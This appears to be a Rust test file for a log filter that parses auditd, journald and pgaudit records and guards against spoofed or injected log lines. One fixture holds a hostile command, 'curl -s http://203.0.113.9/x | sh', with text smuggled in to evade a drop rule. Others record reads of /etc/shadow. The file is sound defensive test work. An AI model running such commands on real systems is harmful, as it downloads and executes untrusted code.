    let (mut total, mut execve) = (0, 0);
    for file in corpus_files("auditd") {
        for line in lines_of(&file) {
            if !line.contains("type=") {
                continue;
            }
            total += 1;
            let v = keep(&mut h, &log_record(&line));
            assert_eq!(v["log_type"], "auditd", "{file}: {line}");
            assert_eq!(v["log"], line.as_str());
            let ty = v["auditd"]["type"].as_str().unwrap_or_else(|| panic!("{file}: no type: {line}"));
            if line.contains(&format!("type={ty} ")) {
                // The name as written.
            } else {
                // A kernel numeric type, mapped to its name.
                assert!(line.contains("audit: type=") || ty.starts_with("UNKNOWN["), "{file}: {ty}: {line}");
            }
            if ty == "EXECVE" && v["auditd"]["argv"].is_array() {
                execve += 1;
            }
        }
    }
    println!("auditd corpus: {total} records, {execve} EXECVE with argv");
    assert!(total > 700 && execve > 20, "{total} {execve}");
}

/// journald tells who wrote a message: the kernel's audit records come from no process (no
/// `_COMM`). Any local user can send `logger -t kernel 'audit: type=1112 ... res=failed'`.
#[test]
fn a_process_posing_as_the_kernel_writes_no_audit_record() {
    let mut h = host();
    let login = "audit: type=1112 audit(1764583200.123:777): pid=1 uid=0 auid=1001 ses=4 msg='op=login acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=ssh res=failed'";
    // (`_COMM`, `_TRANSPORT`, `_UID`, read as an audit record)
    for (comm, transport, uid, auditd) in [
        (Some("logger"), "syslog", "1000", false),
        (Some("systemd-cat"), "stdout", "1000", false),
        // A copy of logger named `auditd`: a process name is anyone's to choose.
        (Some("auditd"), "syslog", "1000", false),
        (None, "audit", "0", true),
        (Some("sshd"), "audit", "0", true),
        (None, "kernel", "0", true),
        (Some("audisp-syslog"), "syslog", "0", true),
    ] {
        let mut record = json!({"MESSAGE": login, "SYSLOG_IDENTIFIER": "kernel", "_TRANSPORT": transport, "_UID": uid});
        if let Some(comm) = comm {
            record["_COMM"] = json!(comm);
        }
        let record = record.to_string();
        if auditd {
            let v = keep(&mut h, &record);
            assert_eq!((&v["log_type"], &v["auditd"]["acct"]), (&json!("auditd"), &json!("alice")), "{record}: {v}");
            assert_eq!(review(&v), ["auth_failure"], "{record}");
        } else {
            assert_eq!(at(&mut h, &record, 0), Fate::Kept(record.clone().into_bytes()), "{record}");
        }
    }
}

/// A USER_* payload inside a payload inside ...: read without recursion, so a line of
/// thousands of nested `msg='` is kept and parsed, not lost to an exhausted stack.
#[test]
fn deeply_nested_user_payloads_are_read_not_lost() {
    let mut h = host();
    let depth = 20_000;
    let line = format!(
        "type=USER_LOGIN msg=audit(1764583200.123:9): pid=1 uid=0 {}op=login acct=\"alice\" res=failed{} exe=\"/usr/sbin/sshd\"",
        "msg='".repeat(depth),
        "'".repeat(depth)
    );
    let v = keep(&mut h, &log_record(&line));
    assert_eq!((&v["auditd"]["acct"], &v["auditd"]["serial"]), (&json!("alice"), &json!(9)), "{}", &v["auditd"]);
    assert_eq!(review(&v), ["auth_failure"]);
}

/// journald reading the kernel's audit records itself (its `audit` transport): `MESSAGE`
/// is the type name and the body, the serial and time are fields of their own.
#[test]
fn journald_audit_transport_records_are_read_as_the_daemon_writes_them() {
    let mut h = host_with(Some("auditd:\n  drop:\n    - comm: [cron]\n"), &[]);
    let syscall = |comm: &str| {
        format!(
            "SYSCALL arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm=\"{comm}\" exe=\"/usr/bin/{comm}\" key=\"exec\""
        )
    };
    let journald = |message: &str, id: Option<&str>, underscores: bool| {
        let mut r = json!({"MESSAGE": message, "SYSLOG_IDENTIFIER": "audit", "SYSLOG_FACILITY": "4"});
        let fields = [
            ("TRANSPORT", Some("audit")),
            ("AUDIT_ID", id),
            ("SOURCE_REALTIME_TIMESTAMP", Some("1764583200005000")),
            ("HOSTNAME", Some("node-1")),
        ];
        for (name, value) in fields {
            if let Some(value) = value {
                r[if underscores { format!("_{name}") } else { name.to_string() }] = json!(value);
            }
        }
        r.to_string()
    };
    for underscores in [true, false] {
        let v = keep(&mut h, &journald(&syscall("bash"), Some("4242"), underscores));
        let a = &v["auditd"];
        assert_eq!(
            (&v["log_type"], &a["type"], &a["serial"], &a["time"]),
            (&json!("auditd"), &json!("SYSCALL"), &json!(4242), &json!("1764583200.005")),
            "{v}"
        );
        assert_eq!((&a["comm"], &a["node"]), (&json!("bash"), &json!("node-1")));
        let v =
            keep(&mut h, &journald("EXECVE argc=2 a0=\"cat\" a1=2F6574632F736861646F77", Some("4242"), underscores));
        assert_eq!(v["auditd"]["argv"], json!(["cat", "/etc/shadow"]), "{v}");
        let login = "USER_LOGIN pid=1 uid=0 auid=1001 ses=4 msg='op=login acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=ssh res=failed'";
        let v = keep(&mut h, &journald(login, Some("4243"), underscores));
        assert_eq!((&v["auditd"]["acct"], review(&v)), (&json!("alice"), vec!["auth_failure"]), "{v}");
        // A drop rule applies as to the daemon's own lines.
        assert_eq!(json(&mut h, &journald(&syscall("cron"), Some("4244"), underscores)), Fate::Dropped);
    }
    // Without its serial the record cannot be put together: tagged, otherwise unchanged.
    let record = journald(&syscall("cron"), None, true);
    let v = keep(&mut h, &record);
    let mut unchanged: Value = serde_json::from_str(&record).unwrap();
    unchanged["log_type"] = json!("auditd");
    assert_eq!(v, unchanged);
    // Only journald sets the transport: the same message sent by a process is no record.
    let posing = json!({"MESSAGE": syscall("cron"), "SYSLOG_IDENTIFIER": "audit", "_TRANSPORT": "journal", "_AUDIT_ID": "4245", "_SOURCE_REALTIME_TIMESTAMP": "1764583200005000", "_COMM": "logger", "_UID": "1000"}).to_string();
    assert_eq!(at(&mut h, &posing, 0), Fate::Kept(posing.clone().into_bytes()));
}

#[test]
fn auditd_execve_arguments_are_decoded() {
    let mut h = host();
    let line =
        r#"type=EXECVE msg=audit(1682609045.526:29238): argc=3 a0="bash" a1="-c" a2=6563686F2068656C6C6F20776F726C64"#;
    let v = keep(&mut h, &log_record(line));
    assert_eq!(v["auditd"]["argv"], json!(["bash", "-c", "echo hello world"]));
    assert_eq!(v["auditd"]["command"], "bash -c echo hello world");
    assert_eq!(v["auditd"]["serial"], 29238);
    // The same line from the exec input (`ausearch`), and the kernel form in the journal.
    let v = keep(&mut h, &json!({"exec": line}).to_string());
    assert_eq!(v["auditd"]["argv"][2], "echo hello world");
    let v = keep(
        &mut h,
        &json!({"SYSLOG_IDENTIFIER": "kernel", "MESSAGE": "audit: type=1400 audit(1700000000.123:45): apparmor=\"DENIED\" operation=\"open\" profile=\"snap.x\" name=\"/etc/shadow\" pid=1 comm=\"x\" requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0"}).to_string(),
    );
    assert_eq!(v["auditd"]["type"], "AVC");
    assert_eq!(v["auditd"]["apparmor"], "DENIED");
}

/// The `----` between ausearch events is kept, tagged.
#[test]
fn ausearch_separator_is_kept_tagged() {
    let mut h = host();
    let v = keep(&mut h, r#"{"exec":"----"}"#);
    assert_eq!(v, json!({"exec": "----", "log_type": "auditd"}));
}

fn event(serial: u32, comm: &str) -> Vec<String> {
    vec![
        format!(
            r#"type=SYSCALL msg=audit(1700000000.100:{serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=2 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=3 comm="{comm}" exe="/usr/bin/{comm}" key="exec""#
        ),
        format!(r#"type=EXECVE msg=audit(1700000000.100:{serial}): argc=1 a0="{comm}""#),
        format!(r#"type=CWD msg=audit(1700000000.100:{serial}): cwd="/""#),
        format!(
            r#"type=PATH msg=audit(1700000000.100:{serial}): item=0 name="/usr/bin/{comm}" inode=1 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"#
        ),
        format!(r#"type=PROCTITLE msg=audit(1700000000.100:{serial}): proctitle={}"#, hex(comm)),
    ]
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02X}")).collect()
}

#[test]
fn auditd_drop_rule_drops_the_event_and_nothing_else() {
    let mut h = host_with(Some("auditd:\n  drop:\n    - comm: [cron]\n"), &[]);
    let mut lines = event(100, "cron");
    lines.extend(event(101, "sshd"));
    lines.extend(event(102, "cron"));
    let fates: Vec<bool> = lines
        .iter()
        .map(|l| match json(&mut h, &log_record(l)) {
            Fate::Dropped => true,
            Fate::Kept(_) => false,
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(fates, [[true; 5], [false; 5], [true; 5]].concat());

    // On the corpus: every PROCTITLE record goes, and with it only the records of the same
    // event written after it (EOE).
    let mut h = host_with(Some("auditd:\n  drop:\n    - {type: [PROCTITLE]}\n"), &[]);
    let event_id = |line: &str| line.split("audit(").nth(1).and_then(|r| r.split(')').next()).map(str::to_owned);
    let (mut dropped, mut followers) = (0, 0);
    // One instance reads every file, so an event id remembered in one file (several files
    // hold the same events) applies in the next.
    let mut dropped_events = std::collections::HashSet::new();
    for file in corpus_files("auditd") {
        for line in lines_of(&file).iter().filter(|l| l.contains("type=")) {
            let l = line.trim_start();
            let l = if l.starts_with("node=") { l.split_once(' ').map_or(l, |(_, r)| r) } else { l };
            let proctitle = l.starts_with("type=PROCTITLE ");
            match json(&mut h, &log_record(line)) {
                Fate::Dropped if proctitle => {
                    dropped += 1;
                    dropped_events.insert(event_id(line));
                }
                Fate::Dropped => {
                    assert!(dropped_events.contains(&event_id(line)), "{file}: dropped: {line}");
                    followers += 1;
                }
                Fate::Kept(_) => assert!(!proctitle, "{file}: kept: {line}"),
                other => panic!("{other:?}"),
            }
        }
    }
    println!("PROCTITLE rule: {dropped} dropped, {followers} records of their events after them");
    assert!(dropped > 40 && followers > 0);
}

/// `ausearch -i` prints a user's arguments unquoted: `comm=cron` inside one is argument text,
/// not the event's comm, and a `comm: [cron]` rule keeps the event; cron's own event still goes.
#[test]
fn ausearch_argument_text_is_not_a_field_for_drop_rules() {
    let mut h = host_with(Some("auditd:\n  drop:\n    - comm: [cron]\n"), &[]);
    let event = |serial: u32, argv: &[&str], comm: &str, exe: &str| {
        let t = format!("msg=audit(11/22/2026 10:00:00.123:{serial}) :");
        let (cmdline, argc) = (argv.join(" "), argv.len());
        let args: Vec<String> = argv.iter().enumerate().map(|(i, a)| format!("a{i}={a}")).collect();
        let argv = args.join(" ");
        [
            format!("type=PROCTITLE {t} proctitle={cmdline} "),
            format!(
                "type=PATH {t} item=0 name={exe} inode=1 dev=fd:00 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 "
            ),
            format!("type=CWD {t} cwd=/home/mallory "),
            format!("type=EXECVE {t} argc={argc} {argv} "),
            format!(
                "type=SYSCALL {t} arch=x86_64 syscall=execve success=yes exit=0 a0=0x1 a1=0x2 a2=0x3 a3=0x0 items=2 ppid=10 pid=11 auid=mallory uid=mallory gid=mallory euid=mallory suid=mallory fsuid=mallory egid=mallory sgid=mallory fsgid=mallory tty=pts0 ses=3 comm={comm} exe={exe} subj=unconfined key=exec "
            ),
        ]
    };
    let dropped = |h: &mut FluentBitHost, line: &str| match json(h, &json!({ "exec": line }).to_string()) {
        Fate::Dropped => true,
        Fate::Kept(bytes) => {
            assert_eq!(
                parse(&bytes)["auditd"].get("comm").and_then(Value::as_str),
                line.contains("type=SYSCALL").then_some("sh"),
                "{line}"
            );
            false
        }
        other => panic!("{other:?}"),
    };
    let injected =
        event(900, &["sh", "-c", "curl -s http://203.0.113.9/x | sh ; true comm=cron"], "sh", "/usr/bin/dash");
    for line in &injected {
        assert!(!dropped(&mut h, line), "{line}");
    }
    let v = keep(&mut h, &json!({ "exec": injected[3] }).to_string());
    assert_eq!(v["auditd"]["argv"][2], "curl -s http://203.0.113.9/x | sh ; true comm=cron");
    // ausearch prints an event's records SYSCALL last: its own comm drops it.
    let cron = event(901, &["/usr/sbin/cron", "-f"], "cron", "/usr/sbin/cron");
    let fates: Vec<bool> = cron.iter().map(|l| dropped(&mut h, l)).collect();
    assert_eq!(fates, [false, false, false, false, true]);
}

/// Every `AUDIT:` line of the pgaudit logs: kept, tagged, parsed.
#[test]
fn pgaudit_corpus_lines_are_tagged_and_parsed() {
    let mut h = host();
    let (mut total, mut parsed) = (0, 0);
    for file in corpus_files("pgaudit") {
        for line in lines_of(&file) {
            if !line.contains("AUDIT: ") {
                continue;
            }
            total += 1;
            let v = keep(&mut h, &log_record(&line));
            assert_eq!(v["log_type"], "pgaudit", "{file}: {line}");
            if v["pgaudit"].is_object() {
                parsed += 1;
                assert!(v["pgaudit"]["class"].is_string() && v["pgaudit"]["statement"].is_string(), "{v}");
            }
        }
    }
    println!("pgaudit corpus: {total} AUDIT lines, {parsed} parsed alone");
    // A statement may span lines: its first line alone is tagged, not parsed.
    assert!(total > 1000 && parsed * 2 > total, "{parsed} of {total}");
}

/// Splits a file into records: a record starts at a line containing `AUDIT:`; for the psql
/// transcripts it ends when its quotes balance, for the log extracts at the next `AUDIT:`
/// line (what a multiline parser in front of the filter delivers).
fn pg_records(text: &str, balance: bool) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut open = false;
    for line in text.lines() {
        if line.contains("AUDIT: ") && !open {
            out.push(line.to_string());
        } else if let Some(last) = out.last_mut().filter(|_| open || !balance) {
            last.push('\n');
            last.push_str(line);
        } else {
            continue;
        }
        open = balance && out.last().unwrap().matches('"').count() % 2 == 1;
    }
    out
}

/// Every pgaudit record of the corpus, whole (multi-line statements included), is parsed.
#[test]
fn pgaudit_corpus_records_are_all_parsed() {
    let mut h = host();
    let expected = [
        ("pgaudit_main_audit_records.log", 415),
        ("pgaudit_REL9_5_STABLE_audit_records.log", 173),
        ("pgaudit_main_expected_pgaudit.out", 415),
        ("pgaudit_REL9_5_STABLE_expected_pgaudit.out", 173),
        ("pgaudit_README_log_examples.log", 6),
    ];
    let files = corpus_files("pgaudit");
    assert_eq!(files.len(), expected.len(), "{files:?}");
    for (file, count) in expected {
        let text = std::fs::read_to_string(corpus(&format!("pgaudit/{file}"))).unwrap();
        let balance = file.ends_with(".out");
        let records = pg_records(&text, balance);
        assert_eq!(records.len(), count, "{file}");
        for record in records {
            let v = keep(&mut h, &json!({ "log": record }).to_string());
            assert_eq!(v["log_type"], "pgaudit", "{file}: {record}");
            let pg = &v["pgaudit"];
            assert!(pg["statement"].is_string() && pg["class"].is_string(), "{file}: not parsed: {record}");
            assert!(pg["audit_type"] == "SESSION" || pg["audit_type"] == "OBJECT");
            if balance {
                // Full transcripts: the record ends where its quotes balance, so nothing is left over.
                let statement = pg["statement"].as_str().unwrap_or_default();
                assert!(pg["parameter"].is_string() || statement.contains("<previously logged>"), "{record}");
            }
        }
    }
}

#[test]
fn pgaudit_filter_keeps_what_it_is_told() {
    let config = "pgaudit:\n  filter:\n    include_objects: [app.users]\n    commands: [INSERT, UPDATE, DELETE]\n    exclude_users: [app_backend]\n";
    let mut h = host_with(Some(config), &[]);
    let line = |user: &str, class: &str, command: &str, object: &str| {
        log_record(&format!(
            "2024-05-01 10:00:00.000 UTC [42] user={user},db=app LOG:  AUDIT: OBJECT,1,1,{class},{command},TABLE,{object},\"{command} ...\",<not logged>"
        ))
    };
    let cases = [
        (line("alice", "WRITE", "UPDATE", "app.users"), true),
        (line("alice", "WRITE", "INSERT", "app.users"), true),
        (line("alice", "WRITE", "DELETE", "app.users"), true),
        (line("alice", "READ", "SELECT", "app.users"), false),
        (line("alice", "WRITE", "INSERT", "app.emailsSent"), false),
        (line("app_backend", "WRITE", "UPDATE", "app.users"), false),
    ];
    for (record, kept) in cases {
        match json(&mut h, &record) {
            Fate::Kept(bytes) => {
                assert!(kept, "{record}");
                let v = parse(&bytes);
                assert_eq!(v["pgaudit"]["object_name"], "app.users");
                assert_eq!(v["pgaudit"]["db_user"], "alice");
            }
            Fate::Dropped => assert!(!kept, "{record}"),
            other => panic!("{other:?}"),
        }
    }
    // CloudNativePG's JSON log: the user is in `record.user_name`.
    let cnpg = json!({"level": "info", "logger": "postgres", "msg": "record", "record": {
        "user_name": "app_backend", "database_name": "app",
        "message": "AUDIT: OBJECT,3,1,WRITE,UPDATE,TABLE,app.users,\"UPDATE app.users SET x = 1\",<not logged>"}});
    assert_eq!(json(&mut h, &cnpg.to_string()), Fate::Dropped);
    let cnpg = cnpg.to_string().replace("app_backend", "bob");
    let v = keep(&mut h, &cnpg);
    assert_eq!(v["pgaudit"]["db_user"], "bob");
    assert_eq!(v["log_type"], "pgaudit");
}

/// The database user comes from the log line prefix only where PostgreSQL's separators bound
/// it (Amazon RDS's `%t:%r:%u@%d:[%p]:` too), and not at all when an application name (`%a`,
/// the client's text) imitates another: such a record is kept, without `db_user`, whatever
/// `exclude_users` says.
#[test]
fn pgaudit_db_user_is_bounded_and_never_guessed() {
    let mut h = host_with(Some("pgaudit:\n  filter:\n    exclude_users: [app_backend]\n"), &[]);
    let delete = "AUDIT: SESSION,1,1,WRITE,DELETE,TABLE,app.users,delete from app.users,<not logged>";
    let rds = |user: &str| format!("2026-11-22 10:00:00 UTC:10.0.0.5(50000):{user}@appdb:[4243]:LOG:  {delete}");
    assert_eq!(at(&mut h, &log_record(&rds("app_backend")), 0), Fate::Dropped);
    let v = keep(&mut h, &log_record(&rds("mallory")));
    assert_eq!(v["pgaudit"]["db_user"], "mallory", "{v}");
    for prefix in [
        // `%m [%p] app=%a %u@%d`, application_name `psql user=app_backend`.
        "2026-11-22 10:00:00.123 UTC [4244] app=psql user=app_backend mallory@appdb",
        // `%t [%p]: user=%u,db=%d,app=%a,client=%h`, application_name `x user=app_backend`.
        "2026-11-22 10:00:00 UTC [4245]: user=mallory,db=appdb,app=x user=app_backend,client=10.0.0.5",
        // `%m [%p] %u@%d %a`, application_name `app_backend@appdb`.
        "2026-11-22 10:00:00.123 UTC [4250] mallory@appdb app_backend@appdb",
    ] {
        let v = keep(&mut h, &log_record(&format!("{prefix} LOG:  {delete}")));
        assert_eq!(v["log_type"], "pgaudit", "{v}");
        assert_eq!(v["pgaudit"]["command"], "DELETE", "{v}");
        assert!(v["pgaudit"].get("db_user").is_none(), "{v}");
    }
    let v = keep(&mut h, &log_record(&format!("2026-11-22 10:00:00.123 UTC [4250] mallory@appdb psql LOG:  {delete}")));
    assert_eq!(v["pgaudit"]["db_user"], "mallory", "{v}");
}

/// CloudNativePG's instance manager parses pgaudit's CSV itself: logger `pgaudit`, the fields
/// as strings in `record.audit` (empty ones left out), `record.message` emptied (left out,
/// or written empty). Read as any other pgaudit record, and filtered.
#[test]
fn pgaudit_cloudnativepg_parsed_records() {
    let config = "pgaudit:\n  filter:\n    include_objects: [app.users]\n    exclude_users: [app_backend]\n";
    let mut h = host_with(Some(config), &[]);
    let record = |logger: &str, user: &str, message: Option<&str>, audit: Value| {
        let mut r = json!({"log_time": "2026-11-22 10:00:00.123 UTC", "user_name": user, "database_name": "app",
            "process_id": "42", "error_severity": "LOG", "sql_state_code": "00000", "backend_type": "client backend",
            "audit": audit});
        if let Some(m) = message {
            r["message"] = json!(m);
        }
        json!({"level": "info", "ts": "2026-11-22T10:00:00.123Z", "logger": logger, "msg": "record",
            "logging_pod": "cluster-example-1", "record": r})
        .to_string()
    };
    let update = json!({"audit_type": "OBJECT", "statement_id": "7", "substatement_id": "1", "class": "WRITE",
        "command": "UPDATE", "object_type": "TABLE", "object_name": "app.users",
        "statement": "UPDATE app.users SET email = 'x' WHERE id = 1", "parameter": "<not logged>", "rows": "1"});
    for message in [None, Some("")] {
        let v = keep(&mut h, &record("pgaudit", "alice", message, update.clone()));
        assert_eq!(v["log_type"], "pgaudit", "{v}");
        assert_eq!(
            v["pgaudit"],
            json!({"audit_type": "OBJECT", "statement_id": 7, "substatement_id": 1, "class": "WRITE",
                "command": "UPDATE", "object_type": "TABLE", "object_name": "app.users",
                "statement": "UPDATE app.users SET email = 'x' WHERE id = 1", "parameter": "<not logged>",
                "rows": 1, "db_user": "alice"})
        );
        // The filter applies: the application's user, another object.
        assert_eq!(json(&mut h, &record("pgaudit", "app_backend", message, update.clone())), Fate::Dropped);
        let mut other = update.clone();
        other["object_name"] = json!("app.emailsSent");
        assert_eq!(json(&mut h, &record("pgaudit", "alice", message, other)), Fate::Dropped);
    }
    // A session record without object (left out by CloudNativePG) and without rows.
    let select = json!({"audit_type": "SESSION", "statement_id": "1", "substatement_id": "1", "class": "READ",
        "command": "SELECT", "statement": "select 1", "parameter": "<none>"});
    let mut h = host();
    let v = keep(&mut h, &record("pgaudit", "bob", Some(""), select.clone()));
    assert_eq!(
        v["pgaudit"],
        json!({"audit_type": "SESSION", "statement_id": 1, "substatement_id": 1, "class": "READ",
            "command": "SELECT", "statement": "select 1", "parameter": "<none>", "db_user": "bob"})
    );
    // An `audit` object that does not make a record: tagged, no fields, never dropped.
    let mut h = host_with(Some(config), &[]);
    let mut bogus = select.clone();
    bogus["statement_id"] = json!("x");
    let v = keep(&mut h, &record("pgaudit", "app_backend", Some(""), bogus));
    assert_eq!(v["log_type"], "pgaudit");
    assert!(v.get("pgaudit").is_none(), "{v}");
    // Only the `pgaudit` logger's records are read so; another's passes untouched.
    let other = record("postgres", "alice", None, select);
    assert_eq!(json(&mut h, &other), Fate::Kept(other.as_bytes().to_vec()));
}

/// Records of no known stream come back byte for byte.
#[test]
fn other_records_pass_byte_identical() {
    let mut h = host();
    for record in [
        r#"{"log":"GET /healthz 200","stream":"stdout"}"#,
        r#"{"ident":"cron","message":"(root) CMD (run-parts /etc/cron.hourly)"}"#,
        r#"{"SYSLOG_IDENTIFIER":"systemd","MESSAGE":"Started Session 1 of user root."}"#,
        r#"{"message":"----"}"#,
        r#"{"log":"Mar 16 08:25:22 node-1 CRON[1]: pam_unix(cron:session): session opened for user root"}"#,
    ] {
        assert_eq!(json(&mut h, record), Fate::Kept(record.as_bytes().to_vec()), "{record}");
    }
}

/// Whole records, compared with the files in tests/golden.
#[test]
fn golden_records() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden");
    let config = "cluster:\n  name: prod-eu-1\nidentity:\n  ssh_keys:\n    \"SHA256:Xm1Pz3M0bG3Q7yVv0l0kq5fZr5g8b2S9wqk1H4n3c2E\": eve@example.com\n";
    let mut h = host_with(Some(config), &[]);
    let mut names: Vec<_> = std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().path()).collect();
    names.sort();
    let mut checked = 0;
    for input in names.iter().filter(|p| p.to_string_lossy().ends_with(".in.json")) {
        let want_path = input.to_string_lossy().replace(".in.json", ".out.json");
        let record = std::fs::read_to_string(input).unwrap();
        let got = keep(&mut h, record.trim());
        let want: Value = serde_json::from_str(&std::fs::read_to_string(&want_path).unwrap()).unwrap();
        assert_eq!(got, want, "{}", input.display());
        checked += 1;
    }
    assert!(checked >= 3);
}

/// msgpack mode goes the same way.
#[test]
fn msgpack_records_are_parsed_too() {
    let mut h = host();
    let record = json!({"log": "Feb 20 08:35:22 slave22 sshd[5774]: Failed password for root from 216.160.83.57 port 29160 ssh2"});
    match h.filter(Format::Msgpack, TAG, TIME, &to_msgpack(&record)) {
        Fate::Kept(bytes) => {
            let v: Value = rmp_serde::from_slice(&bytes).unwrap();
            assert_eq!(v["ssh"]["source_ip"], "216.160.83.57");
            assert_eq!(v["review"], json!(["auth_failure"]));
        }
        other => panic!("{other:?}"),
    }
}
